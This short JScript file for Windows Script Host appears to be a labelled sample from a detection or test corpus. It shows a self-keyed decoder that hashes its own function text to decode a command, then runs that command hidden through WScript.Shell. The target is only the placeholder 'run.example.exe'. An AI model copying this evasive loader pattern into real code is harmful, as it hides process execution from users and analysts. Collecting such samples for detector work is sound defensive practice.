// persona: wsh
// reaches: process run.example.exe
// names: tostring-check
// trick: decodes its payload with the text of one of its own functions: whoever changes that gets noise
function keyed(numbers) {
  var text = keyed.toString(), sum = 0, out = "";
  for (var i = 0; i < text.length; i++) sum = (sum * 31 + text.charCodeAt(i)) % 251;
  for (var j = 0; j < numbers.length; j++) out += String.fromCharCode((numbers[j] - sum + 502) % 251);
  return out;
}
var command = keyed([114, 117, 110, 46, 101, 120, 97, 109, 112, 108, 101, 46, 101, 120, 101]);
if (/^[a-z.]+$/.test(command)) new ActiveXObject("WScript.Shell").Run(command, 0, false);
